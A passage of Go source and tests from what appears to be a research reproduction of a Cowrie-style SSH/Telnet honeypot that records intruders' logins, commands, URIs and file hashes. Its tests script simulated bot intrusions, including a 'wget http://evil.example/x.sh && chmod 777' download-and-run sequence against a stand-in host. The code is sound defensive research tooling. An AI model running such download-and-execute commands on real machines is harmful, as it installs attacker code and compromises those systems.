	}
}

// TestNonUTCEpoch pins the epoch-normalization fix: a non-UTC epoch must
// bucket days from that zone's midnight, not the nearest UTC midnight.
func TestNonUTCEpoch(t *testing.T) {
	tokyo := time.FixedZone("UTC+9", 9*3600)
	// 10:30 local on 2021-12-01 in UTC+9. That zone's midnight is
	// 2021-11-30T15:00:00Z; Truncate(24h) would have landed on
	// 2021-12-01T00:00:00Z — nine hours late.
	e := time.Date(2021, 12, 1, 10, 30, 0, 0, tokyo)
	s := New(e)
	wantEpoch := time.Date(2021, 11, 30, 15, 0, 0, 0, time.UTC)
	if !s.Epoch().Equal(wantEpoch) {
		t.Fatalf("Epoch = %v, want %v", s.Epoch(), wantEpoch)
	}
	// One minute after local midnight is day 0; one minute before local
	// midnight of the next day is still day 0; local midnight +24h is day 1.
	if d := s.Day(time.Date(2021, 12, 1, 0, 1, 0, 0, tokyo)); d != 0 {
		t.Errorf("Day(00:01 local) = %d, want 0", d)
	}
	if d := s.Day(time.Date(2021, 12, 1, 23, 59, 0, 0, tokyo)); d != 0 {
		t.Errorf("Day(23:59 local) = %d, want 0", d)
	}
	if d := s.Day(time.Date(2021, 12, 2, 0, 1, 0, 0, tokyo)); d != 1 {
		t.Errorf("Day(next 00:01 local) = %d, want 1", d)
	}
	// UTC epochs are unaffected by the fix.
	if got := New(epoch.Add(5 * time.Hour)).Epoch(); !got.Equal(epoch) {
		t.Errorf("UTC epoch normalization changed: %v, want %v", got, epoch)
	}
}

// TestNumDaysIncremental checks the lazy day-index cache tracks appends.
func TestNumDaysIncremental(t *testing.T) {
	s := New(epoch)
	if s.NumDays() != 0 {
		t.Fatalf("empty NumDays = %d, want 0", s.NumDays())
	}
	s.Add(rec(4, 1, "1.1.1.1"))
	if s.NumDays() != 5 {
		t.Fatalf("NumDays = %d, want 5", s.NumDays())
	}
	// Appends after a NumDays call must still be folded in.
	s.AddBatch([]*honeypot.SessionRecord{rec(2, 1, "1.1.1.1"), rec(9, 2, "2.2.2.2")})
	if s.NumDays() != 10 {
		t.Fatalf("NumDays after append = %d, want 10", s.NumDays())
	}
	// Idempotent on repeat.
	if s.NumDays() != 10 {
		t.Fatalf("NumDays repeat = %d, want 10", s.NumDays())
	}
}

// TestBuilderSeal verifies shard-order concatenation and that the sealed
// store's day index matches a sequentially-built store.
func TestBuilderSeal(t *testing.T) {
	b := NewBuilder(epoch, 3)
	if b.Shards() != 3 {
		t.Fatalf("Shards = %d", b.Shards())
	}
	// Fill shards out of order, as concurrent workers would.
	b.SetShard(2, []*honeypot.SessionRecord{rec(7, 30, "3.3.3.3")})
	b.SetShard(0, []*honeypot.SessionRecord{rec(0, 10, "1.1.1.1"), rec(1, 11, "1.1.1.2")})
	b.AppendShard(1, rec(3, 20, "2.2.2.2"))
	s := b.Seal()
	if s.Len() != 4 {
		t.Fatalf("Len = %d, want 4", s.Len())
	}
	wantPots := []int{10, 11, 20, 30}
	for i, r := range s.Records() {
		if r.HoneypotID != wantPots[i] {
			t.Errorf("record %d pot = %d, want %d (shard-order merge broken)", i, r.HoneypotID, wantPots[i])
		}
	}
	if s.NumDays() != 8 {
		t.Errorf("NumDays = %d, want 8", s.NumDays())
	}
	// Appending after seal must still be reflected (cache folds the tail).
	s.Add(rec(12, 40, "4.4.4.4"))
	if s.NumDays() != 13 {
		t.Errorf("NumDays after post-seal add = %d, want 13", s.NumDays())
	}
}

func TestConcurrentBuilderShards(t *testing.T) {
	const shards = 16
	b := NewBuilder(epoch, shards)
	var wg sync.WaitGroup
	for i := 0; i < shards; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				b.AppendShard(n, rec(j%10, n, "1.2.3.4"))
			}
		}(i)
	}
	wg.Wait()
	if got := b.Seal().Len(); got != shards*50 {
		t.Errorf("sealed Len = %d, want %d", got, shards*50)
	}
}

// TestConcurrentAddBatchAndRecords hammers writers against readers so
// `go test -race` exercises the AddBatch/Records/NumDays lock protocol.
func TestConcurrentAddBatchAndRecords(t *testing.T) {
	s := New(epoch)
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				s.AddBatch([]*honeypot.SessionRecord{rec(j%10, n, "1.2.3.4"), rec(j%7, n, "4.3.2.1")})
			}
		}(i)
	}
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				snap := s.Records()
				for _, r := range snap {
					_ = r.HoneypotID
				}
				_ = s.NumDays()
				_ = s.Len()
			}
		}()
	}
	wg.Wait()
	if s.Len() != 4*50*2 {
		t.Errorf("Len = %d, want %d", s.Len(), 4*50*2)
	}
	if s.NumDays() != 10 {
		t.Errorf("NumDays = %d, want 10", s.NumDays())
	}
}

func TestConcurrentAdd(t *testing.T) {
	s := New(epoch)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				s.Add(rec(j%10, n, "1.2.3.4"))
			}
		}(i)
	}
	wg.Wait()
	if s.Len() != 800 {
		t.Errorf("Len = %d, want 800", s.Len())
	}
}

func TestRecordsSnapshotIsStable(t *testing.T) {
	s := New(epoch)
	s.Add(rec(0, 1, "1.1.1.1"))
	snap := s.Records()
	s.Add(rec(1, 2, "2.2.2.2"))
	if len(snap) != 1 {
		t.Errorf("snapshot grew: %d", len(snap))
	}
}

func BenchmarkAdd(b *testing.B) {
	s := New(epoch)
	r := rec(0, 1, "1.1.1.1")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s.Add(r)
	}
}

func BenchmarkJSONLWrite(b *testing.B) {
	s := New(epoch)
	for i := 0; i < 10000; i++ {
		s.Add(rec(i%480, i%221, "1.2.3.4"))
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var buf bytes.Buffer
		if err := s.WriteJSONL(&buf); err != nil {
			b.Fatal(err)
		}
	}
}

func TestJSONLPreservesTranscript(t *testing.T) {
	s := New(epoch)
	r := rec(0, 1, "1.1.1.1")
	r.Transcript = []byte("root@svr04:~# uname -a\r\nLinux svr04\r\n\x00\xff binary ok")
	s.Add(r)
	var buf bytes.Buffer
	if err := s.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := ReadJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	got := loaded.Records()[0].Transcript
	if !bytes.Equal(got, r.Transcript) {
		t.Errorf("transcript lost: %q vs %q", got, r.Transcript)
	}
}
