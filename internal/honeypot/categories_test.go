package honeypot

import (
	"crypto/rand"
	"crypto/rsa"
	"io"
	"strings"
	"testing"
	"time"

	"honeyfarm/internal/sshwire"
)

// TestWireLevelCategories drives one real SSH session per paper category
// against the honeypot and verifies the recorded session classifies as
// expected — the wire-level path and the record-level generator must
// agree on the Figure 5 flow. (Classification logic itself lives in the
// analysis package; here we assert on the record fields it keys on.)
func TestWireLevelCategories(t *testing.T) {
	rig := newRig(t, Config{
		PostAuthTimeout: 200 * time.Millisecond,
		Fetch:           func(string) ([]byte, error) { return []byte("payload"), nil },
	})

	type expectation struct {
		name     string
		drive    func(t *testing.T)
		hasCreds bool
		loggedIn bool
		hasCmds  bool
		hasURIs  bool
	}

	dial := func(t *testing.T, cfg *sshwire.ClientConfig) *sshwire.ClientConn {
		t.Helper()
		nc, err := rig.fabric.Dial("203.0.113.77", rig.sshAddr)
		if err != nil {
			t.Fatal(err)
		}
		cc, err := sshwire.NewClientConn(nc, cfg)
		if err != nil && cfg.SkipAuth {
			t.Fatal(err)
		}
		return cc
	}

	cases := []expectation{
		{
			name: "NO_CRED scan",
			drive: func(t *testing.T) {
				cc := dial(t, &sshwire.ClientConfig{SkipAuth: true})
				cc.Close()
			},
		},
		{
			name: "FAIL_LOG scouting",
			drive: func(t *testing.T) {
				cc := dial(t, &sshwire.ClientConfig{SkipAuth: true})
				_, _ = cc.TryPasswords("admin", []string{"a", "b", "c"})
				cc.Close()
			},
			hasCreds: true,
		},
		{
			name: "NO_CMD idle login",
			drive: func(t *testing.T) {
				nc, err := rig.fabric.Dial("203.0.113.77", rig.sshAddr)
				if err != nil {
					t.Fatal(err)
				}
				cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
				if err != nil {
					t.Fatal(err)
				}
				sess, err := cc.OpenSession()
				if err != nil {
					t.Fatal(err)
				}
				if err := sshwire.RequestShell(sess); err != nil {
					t.Fatal(err)
				}
				// Idle until the honeypot times the session out.
				_, _ = io.ReadAll(sess)
				cc.Close()
			},
			hasCreds: true, loggedIn: true,
		},
		{
			name: "CMD intrusion",
			drive: func(t *testing.T) {
				nc, err := rig.fabric.Dial("203.0.113.77", rig.sshAddr)
				if err != nil {
					t.Fatal(err)
				}
				cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
				if err != nil {
					t.Fatal(err)
				}
				sess, err := cc.OpenSession()
				if err != nil {
					t.Fatal(err)
				}
				if err := sshwire.RequestExec(sess, "uname -a; free -m"); err != nil {
					t.Fatal(err)
				}
				_, _ = io.ReadAll(sess)
				cc.Close()
			},
			hasCreds: true, loggedIn: true, hasCmds: true,
		},
		{
			name: "CMD+URI intrusion",
			drive: func(t *testing.T) {
				nc, err := rig.fabric.Dial("203.0.113.77", rig.sshAddr)
				if err != nil {
					t.Fatal(err)
				}
				cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
				if err != nil {
					t.Fatal(err)
				}
				sess, err := cc.OpenSession()
				if err != nil {
					t.Fatal(err)
				}
				if err := sshwire.RequestExec(sess, "wget http://evil.example/x.bin"); err != nil {
					t.Fatal(err)
				}
				_, _ = io.ReadAll(sess)
				cc.Close()
			},
			hasCreds: true, loggedIn: true, hasCmds: true, hasURIs: true,
		},
	}

	for _, c := range cases {
		c := c
		t.Run(c.name, func(t *testing.T) {
			before := len(rig.wait0())
			rig.expect(1)
			c.drive(t)
			recs := rig.wait(t)
			r := recs[len(recs)-1]
			if before+1 != len(recs) {
				t.Fatalf("expected one new record, have %d → %d", before, len(recs))
			}
			if got := len(r.Logins) > 0; got != c.hasCreds {
				t.Errorf("hasCreds = %v, want %v (%+v)", got, c.hasCreds, r.Logins)
			}
			if got := r.LoggedIn(); got != c.loggedIn {
				t.Errorf("loggedIn = %v, want %v", got, c.loggedIn)
			}
			if got := len(r.Commands) > 0; got != c.hasCmds {
				t.Errorf("hasCmds = %v, want %v (%+v)", got, c.hasCmds, r.Commands)
			}
			if got := len(r.URIs) > 0; got != c.hasURIs {
				t.Errorf("hasURIs = %v, want %v (%v)", got, c.hasURIs, r.URIs)
			}
		})
	}
}

// wait0 returns the records collected so far without waiting.
func (r *testRig) wait0() []*SessionRecord {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]*SessionRecord(nil), r.records...)
}

// TestRSAHostKeyClient connects with an RSA-only, DH-only client — the
// profile of older bot toolchains — and verifies the session records.
func TestRSAHostKeyClient(t *testing.T) {
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	rig := newRig(t, Config{RSAHostKey: rsaKey})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.88", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{
		User: "root", Password: "dropbear-pw",
		KexAlgos:     []string{"diffie-hellman-group14-sha256"},
		HostKeyAlgos: []string{"rsa-sha2-256"},
		Version:      "SSH-2.0-dropbear_2019.78",
	})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestExec(sess, "cat /proc/cpuinfo"); err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(sess)
	if !strings.Contains(string(out), "GenuineIntel") {
		t.Errorf("exec over DH+RSA = %q", out)
	}
	cc.Close()
	recs := rig.wait(t)
	r := recs[len(recs)-1]
	if r.ClientVersion != "SSH-2.0-dropbear_2019.78" || !r.LoggedIn() {
		t.Errorf("record = %+v", r)
	}
}
