package honeypot

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"errors"
	"fmt"
	"net"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"honeyfarm/internal/shell"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
	"honeyfarm/internal/vfs"
)

// Cowrie-equivalent timeouts. The paper reports a three-minute session
// timeout after login (Section 4) and a shorter pre-auth window visible
// as the first dashed line in Figure 7.
const (
	DefaultPreAuthTimeout  = 60 * time.Second
	DefaultPostAuthTimeout = 180 * time.Second
)

// Config configures a honeypot instance.
type Config struct {
	// ID is the honeypot's index within the farm.
	ID int
	// HostKey is the SSH host key; generated if nil.
	HostKey ed25519.PrivateKey
	// RSAHostKey optionally adds an rsa-sha2-256 host key so clients
	// without ed25519 support can connect. RSA keygen is slow, so farms
	// share one key across honeypots rather than generating per pot.
	RSAHostKey *rsa.PrivateKey
	// Auth is the credential policy. Nil selects CowrieAuth.
	Auth func(user, password string) bool
	// Fetch resolves URIs for wget/curl/tftp downloads. Nil means
	// downloads fail (egress blocked) but URIs are still recorded.
	Fetch shell.FetchFunc
	// PreAuthTimeout and PostAuthTimeout bound client inactivity.
	PreAuthTimeout  time.Duration
	PostAuthTimeout time.Duration
	// Now supplies record timestamps (defaults to time.Now).
	Now func() time.Time
	// Sink receives every completed session record. Required to be
	// non-nil for records to be observable.
	Sink func(*SessionRecord)
	// RecordTranscript captures the shell output stream into
	// SessionRecord.Transcript (capped at TranscriptCap).
	RecordTranscript bool
	// ServerVersion is the SSH identification string.
	ServerVersion string
}

// CowrieAuth is the paper's honeypot policy: password authentication for
// user "root" with any password except "root" (Section 4).
func CowrieAuth(user, password string) bool {
	return user == "root" && password != "root"
}

// Honeypot is one medium-interaction honeypot instance. It is safe for
// concurrent use; each connection is served on its caller's goroutine.
type Honeypot struct {
	cfg      Config
	hostKey  ed25519.PrivateKey
	template *vfs.FS
	nextID   atomic.Uint64
}

// New creates a honeypot. The baseline filesystem image is built once
// and cloned per session.
func New(cfg Config) (*Honeypot, error) {
	if cfg.Auth == nil {
		cfg.Auth = CowrieAuth
	}
	if cfg.PreAuthTimeout <= 0 {
		cfg.PreAuthTimeout = DefaultPreAuthTimeout
	}
	if cfg.PostAuthTimeout <= 0 {
		cfg.PostAuthTimeout = DefaultPostAuthTimeout
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	if cfg.ServerVersion == "" {
		cfg.ServerVersion = "SSH-2.0-OpenSSH_7.9p1 Debian-10+deb10u2"
	}
	hostKey := cfg.HostKey
	if hostKey == nil {
		var err error
		_, hostKey, err = ed25519.GenerateKey(rand.Reader)
		if err != nil {
			return nil, fmt.Errorf("honeypot: generating host key: %w", err)
		}
	}
	return &Honeypot{
		cfg:      cfg,
		hostKey:  hostKey,
		template: vfs.New(cfg.Now),
	}, nil
}

// ID returns the honeypot's farm index.
func (h *Honeypot) ID() int { return h.cfg.ID }

// HostKey returns the SSH host key's public half.
func (h *Honeypot) HostKey() ed25519.PublicKey {
	return h.hostKey.Public().(ed25519.PublicKey)
}

// sessionRecorder adapts the shell's Recorder interface onto a record.
type sessionRecorder struct {
	mu  sync.Mutex
	rec *SessionRecord
}

func (s *sessionRecorder) Command(raw string, known bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.rec.Commands = append(s.rec.Commands, CommandRecord{Input: raw, Known: known})
}

func (s *sessionRecorder) URI(uri string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.rec.URIs = append(s.rec.URIs, uri)
}

func (s *sessionRecorder) File(ev vfs.FileEvent) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.rec.Files = append(s.rec.Files, FileRecord{
		Path: ev.Path, Hash: ev.Hash, Op: ev.Op.String(), Size: ev.Size,
	})
}

func (h *Honeypot) newRecord(proto Protocol, remote net.Addr) *SessionRecord {
	ip, port := splitAddr(remote)
	return &SessionRecord{
		// IDs are unique across a farm: honeypot index in the high bits,
		// per-honeypot sequence in the low ones.
		ID:         uint64(h.cfg.ID)<<40 | h.nextID.Add(1),
		HoneypotID: h.cfg.ID,
		Protocol:   proto,
		ClientIP:   ip,
		ClientPort: port,
		Start:      h.cfg.Now(),
	}
}

func splitAddr(a net.Addr) (string, int) {
	if a == nil {
		return "", 0
	}
	host, portStr, err := net.SplitHostPort(a.String())
	if err != nil {
		return a.String(), 0
	}
	port, err := strconv.Atoi(portStr)
	if err != nil {
		return host, 0
	}
	return host, port
}

// appendTranscript records shell output when transcripts are enabled.
func (h *Honeypot) appendTranscript(rec *SessionRecord, data []byte) {
	if !h.cfg.RecordTranscript || len(rec.Transcript) >= TranscriptCap {
		return
	}
	room := TranscriptCap - len(rec.Transcript)
	if len(data) > room {
		data = data[:room]
	}
	rec.Transcript = append(rec.Transcript, data...)
}

func (h *Honeypot) finish(rec *SessionRecord, term Termination) {
	rec.End = h.cfg.Now()
	rec.Termination = term
	if h.cfg.Sink != nil {
		h.cfg.Sink(rec)
	}
}

// ServeSSH handles one accepted SSH connection to completion, emitting a
// SessionRecord. The connection is always closed on return.
func (h *Honeypot) ServeSSH(nc net.Conn) {
	defer nc.Close()
	rec := h.newRecord(SSH, nc.RemoteAddr())
	var mu sync.Mutex

	_ = nc.SetReadDeadline(time.Now().Add(h.cfg.PreAuthTimeout))
	sconn, err := sshwire.NewServerConn(nc, &sshwire.ServerConfig{
		HostKey:    h.hostKey,
		RSAHostKey: h.cfg.RSAHostKey,
		Version:    h.cfg.ServerVersion,
		PasswordCallback: func(user, pass string) bool {
			return h.cfg.Auth(user, pass)
		},
		AuthLogCallback: func(a sshwire.AuthAttempt) {
			if a.Method != "password" {
				return
			}
			mu.Lock()
			rec.Logins = append(rec.Logins, LoginAttempt{User: a.User, Password: a.Password, Success: a.Accepted})
			mu.Unlock()
		},
		MaxAuthTries: 3,
	})
	if err != nil {
		// Classify: no credentials at all vs failed logins.
		term := TermClient
		if isTimeout(err) {
			term = TermTimeout
		} else if len(rec.Logins) >= 3 {
			term = TermAuthFailure
		}
		h.finish(rec, term)
		return
	}
	rec.ClientVersion = sconn.ClientVersion()
	defer sconn.Close()

	_ = nc.SetReadDeadline(time.Now().Add(h.cfg.PostAuthTimeout))
	sess, err := sconn.AcceptSession()
	if err != nil {
		term := TermClient
		if isTimeout(err) {
			term = TermTimeout
		}
		h.finish(rec, term)
		return
	}

	srec := &sessionRecorder{rec: rec}
	fs := h.template.Clone()
	var out bytes.Buffer
	sh := shell.New(fs, &out, srec)
	sh.Fetch = h.cfg.Fetch

	// Wait for shell or exec (consuming pty-req/env on the way), without
	// blocking past a client that opens a session and leaves.
	var execCmd string
	wantShell := false
reqLoop:
	for {
		select {
		case req := <-sess.Requests:
			switch req.Type {
			case "shell":
				wantShell = true
				break reqLoop
			case "exec":
				execCmd = req.Command
				break reqLoop
			}
		case <-sess.Done():
			break reqLoop
		}
	}

	if execCmd != "" {
		rc := sh.Run(execCmd)
		data := crlf(out.Bytes())
		//lint:ignore error-discard best-effort delivery; the record is already complete
		_, _ = sess.Write(data)
		h.appendTranscript(rec, data)
		//lint:ignore error-discard best-effort teardown; client may already be gone
		_ = sess.SendExitStatus(uint32(rc))
		_ = sess.CloseWrite()
		_ = sess.Close()
		h.finish(rec, TermClient)
		return
	}
	if !wantShell {
		h.finish(rec, TermClient)
		return
	}

	// Interactive shell loop.
	term := h.shellLoop(nc, sess, sh, &out, func(s string) error {
		h.appendTranscript(rec, []byte(s))
		_, err := sess.Write([]byte(s))
		return err
	})
	_ = sess.Close()
	h.finish(rec, term)
}

// lineSource yields input lines for the shell loop.
type lineSource func() (string, error)

// shellLoop drives the prompt/read/execute cycle shared by SSH and
// Telnet sessions. It resets the inactivity deadline before each read.
func (h *Honeypot) shellLoop(nc net.Conn, reader interface{ Read([]byte) (int, error) }, sh *shell.Shell, out *bytes.Buffer, write func(string) error) Termination {
	lines := lineReader(reader)
	for {
		if err := write(sh.Prompt()); err != nil {
			return TermClient
		}
		_ = nc.SetReadDeadline(time.Now().Add(h.cfg.PostAuthTimeout))
		line, err := lines()
		if err != nil {
			if isTimeout(err) {
				return TermTimeout
			}
			return TermClient
		}
		out.Reset()
		sh.Run(line)
		if out.Len() > 0 {
			if err := write(string(crlf(out.Bytes()))); err != nil {
				return TermClient
			}
		}
		if sh.Exited() {
			return TermExit
		}
	}
}

// (shell output reaches the transcript through the write callback.)

// lineReader adapts a byte stream into newline-delimited lines.
func lineReader(r interface{ Read([]byte) (int, error) }) lineSource {
	var pending []byte
	buf := make([]byte, 1024)
	return func() (string, error) {
		for {
			if i := bytes.IndexByte(pending, '\n'); i >= 0 {
				line := strings.TrimRight(string(pending[:i]), "\r")
				pending = pending[i+1:]
				return line, nil
			}
			n, err := r.Read(buf)
			if n > 0 {
				pending = append(pending, buf[:n]...)
				continue
			}
			if err != nil {
				if len(pending) > 0 {
					line := strings.TrimRight(string(pending), "\r")
					pending = nil
					return line, err
				}
				return "", err
			}
		}
	}
}

// crlf converts bare newlines to CRLF for terminal output.
func crlf(b []byte) []byte {
	if !bytes.Contains(b, []byte{'\n'}) {
		return b
	}
	return bytes.ReplaceAll(b, []byte("\n"), []byte("\r\n"))
}

// ServeTelnet handles one accepted Telnet connection to completion.
func (h *Honeypot) ServeTelnet(nc net.Conn) {
	defer nc.Close()
	rec := h.newRecord(Telnet, nc.RemoteAddr())
	var mu sync.Mutex

	_ = nc.SetReadDeadline(time.Now().Add(h.cfg.PreAuthTimeout))
	sess, err := telnet.Handshake(nc, &telnet.ServerConfig{
		Banner: "Debian GNU/Linux 10",
		Auth:   h.cfg.Auth,
		AuthLog: func(a telnet.AuthAttempt) {
			mu.Lock()
			rec.Logins = append(rec.Logins, LoginAttempt{User: a.User, Password: a.Password, Success: a.Accepted})
			mu.Unlock()
		},
		MaxTries: 3,
	})
	if err != nil {
		term := TermClient
		if isTimeout(err) {
			term = TermTimeout
		} else if err == telnet.ErrTooManyTries {
			term = TermAuthFailure
		}
		h.finish(rec, term)
		return
	}

	srec := &sessionRecorder{rec: rec}
	fs := h.template.Clone()
	var out bytes.Buffer
	sh := shell.New(fs, &out, srec)
	sh.Fetch = h.cfg.Fetch

	term := h.telnetShellLoop(nc, sess.Conn, sh, &out, rec)
	h.finish(rec, term)
}

func (h *Honeypot) telnetShellLoop(nc net.Conn, c *telnet.Conn, sh *shell.Shell, out *bytes.Buffer, rec *SessionRecord) Termination {
	for {
		h.appendTranscript(rec, []byte(sh.Prompt()))
		if err := c.WriteString(sh.Prompt()); err != nil {
			return TermClient
		}
		_ = nc.SetReadDeadline(time.Now().Add(h.cfg.PostAuthTimeout))
		line, err := c.ReadLine()
		if err != nil {
			if isTimeout(err) {
				return TermTimeout
			}
			return TermClient
		}
		out.Reset()
		sh.Run(line)
		if out.Len() > 0 {
			data := crlf(out.Bytes())
			h.appendTranscript(rec, data)
			if _, err := c.Write(data); err != nil {
				return TermClient
			}
		}
		if sh.Exited() {
			return TermExit
		}
	}
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}
