// Package honeypot implements the medium-interaction SSH/Telnet honeypot
// at the heart of the reproduced honeyfarm: Cowrie's authentication
// policy (user "root", any password except "root", three tries), its
// session lifecycle (pre-auth and post-auth inactivity timeouts), and its
// recording model (credentials, known/unknown commands, URIs, file
// hashes). The output unit is the SessionRecord — exactly the per-session
// summary the paper's collector stores 402 million of.
package honeypot

import (
	"fmt"
	"time"
)

// Protocol distinguishes the two attack-surface protocols the farm
// exposes. SSH accounts for 75.84% of the paper's sessions, Telnet for
// 24.16%.
type Protocol uint8

// Protocol values.
const (
	SSH Protocol = iota
	Telnet
)

func (p Protocol) String() string {
	if p == SSH {
		return "ssh"
	}
	return "telnet"
}

// Termination records how a session ended.
type Termination uint8

// Termination values.
const (
	// TermClient: the client tore the connection down.
	TermClient Termination = iota
	// TermTimeout: the honeypot's inactivity timeout fired.
	TermTimeout
	// TermAuthFailure: disconnected after exhausting login attempts.
	TermAuthFailure
	// TermExit: the client ran exit/logout.
	TermExit
)

func (t Termination) String() string {
	switch t {
	case TermClient:
		return "client"
	case TermTimeout:
		return "timeout"
	case TermAuthFailure:
		return "auth-failure"
	case TermExit:
		return "exit"
	}
	return fmt.Sprintf("Termination(%d)", uint8(t))
}

// LoginAttempt is one recorded credential pair.
type LoginAttempt struct {
	User     string `json:"user"`
	Password string `json:"password"`
	Success  bool   `json:"success"`
}

// CommandRecord is one executed command, known (emulated) or unknown.
type CommandRecord struct {
	Input string `json:"input"`
	Known bool   `json:"known"`
}

// FileRecord is one file created or modified during the session, with
// the SHA-256 content hash the paper's campaign analysis keys on.
type FileRecord struct {
	Path string `json:"path"`
	Hash string `json:"hash"`
	Op   string `json:"op"` // "create" or "modify"
	Size int    `json:"size"`
}

// SessionRecord is the complete summary of one client session — the
// paper's unit of analysis.
type SessionRecord struct {
	ID            uint64          `json:"id"`
	HoneypotID    int             `json:"honeypot"`
	Protocol      Protocol        `json:"protocol"`
	ClientIP      string          `json:"client_ip"`
	ClientPort    int             `json:"client_port"`
	Start         time.Time       `json:"start"`
	End           time.Time       `json:"end"`
	ClientVersion string          `json:"client_version,omitempty"`
	Logins        []LoginAttempt  `json:"logins,omitempty"`
	Commands      []CommandRecord `json:"commands,omitempty"`
	URIs          []string        `json:"uris,omitempty"`
	Files         []FileRecord    `json:"files,omitempty"`
	Termination   Termination     `json:"termination"`
	// Transcript holds the raw shell output sent to the client, capped
	// at TranscriptCap bytes. Recorded only when Config.RecordTranscript
	// is set (Cowrie's TTY-log equivalent).
	Transcript []byte `json:"transcript,omitempty"`
}

// TranscriptCap bounds per-session transcript recording.
const TranscriptCap = 64 << 10

// Duration returns the session length.
func (r *SessionRecord) Duration() time.Duration { return r.End.Sub(r.Start) }

// LoggedIn reports whether any login attempt succeeded.
func (r *SessionRecord) LoggedIn() bool {
	for _, l := range r.Logins {
		if l.Success {
			return true
		}
	}
	return false
}
