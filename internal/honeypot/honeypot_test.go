package honeypot

import (
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"honeyfarm/internal/netsim"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
)

// testRig wires a honeypot to a netsim fabric and collects records.
type testRig struct {
	fabric  *netsim.Fabric
	pot     *Honeypot
	mu      sync.Mutex
	records []*SessionRecord
	sshAddr netsim.Addr
	telAddr netsim.Addr
	done    sync.WaitGroup
}

func newRig(t *testing.T, cfg Config) *testRig {
	t.Helper()
	rig := &testRig{
		fabric:  netsim.NewFabric(0),
		sshAddr: netsim.Addr{IP: "10.0.0.1", Port: 22},
		telAddr: netsim.Addr{IP: "10.0.0.1", Port: 23},
	}
	cfg.Sink = func(r *SessionRecord) {
		rig.mu.Lock()
		rig.records = append(rig.records, r)
		rig.mu.Unlock()
		rig.done.Done()
	}
	pot, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	rig.pot = pot

	sshL, err := rig.fabric.Listen(rig.sshAddr.IP, rig.sshAddr.Port)
	if err != nil {
		t.Fatal(err)
	}
	telL, err := rig.fabric.Listen(rig.telAddr.IP, rig.telAddr.Port)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sshL.Close(); telL.Close() })
	go serveLoop(sshL, pot.ServeSSH)
	go serveLoop(telL, pot.ServeTelnet)
	return rig
}

func serveLoop(l *netsim.Listener, handle func(net.Conn)) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go handle(c)
	}
}

// expect records n sessions to complete.
func (r *testRig) expect(n int) { r.done.Add(n) }

func (r *testRig) wait(t *testing.T) []*SessionRecord {
	t.Helper()
	ch := make(chan struct{})
	go func() { r.done.Wait(); close(ch) }()
	select {
	case <-ch:
	case <-time.After(10 * time.Second):
		t.Fatal("timed out waiting for session records")
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]*SessionRecord(nil), r.records...)
}

func TestSSHIntrusionWithDownload(t *testing.T) {
	payload := []byte("MALWARE-SAMPLE-1")
	rig := newRig(t, Config{
		ID:    7,
		Fetch: func(uri string) ([]byte, error) { return payload, nil },
	})
	rig.expect(1)

	nc, err := rig.fabric.Dial("203.0.113.5", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{
		User: "root", Password: "admin", Version: "SSH-2.0-Mirai-like",
	})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestPTY(sess, "xterm", 80, 24); err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	// Drive the shell like a bot: recon, download, execute, leave.
	script := []string{
		"cat /proc/cpuinfo | grep name | wc -l",
		"cd /tmp && wget http://evil.example/x.sh && chmod 777 x.sh",
		"./x.sh",
		"exit",
	}
	go func() {
		for _, cmd := range script {
			_, _ = sess.Write([]byte(cmd + "\n"))
		}
	}()
	_, _ = io.ReadAll(sess) // consume output until server closes
	cc.Close()

	recs := rig.wait(t)
	if len(recs) != 1 {
		t.Fatalf("records = %d", len(recs))
	}
	r := recs[0]
	if r.Protocol != SSH || r.HoneypotID != 7 {
		t.Errorf("proto/honeypot = %v/%d", r.Protocol, r.HoneypotID)
	}
	if r.ClientIP != "203.0.113.5" {
		t.Errorf("client ip = %q", r.ClientIP)
	}
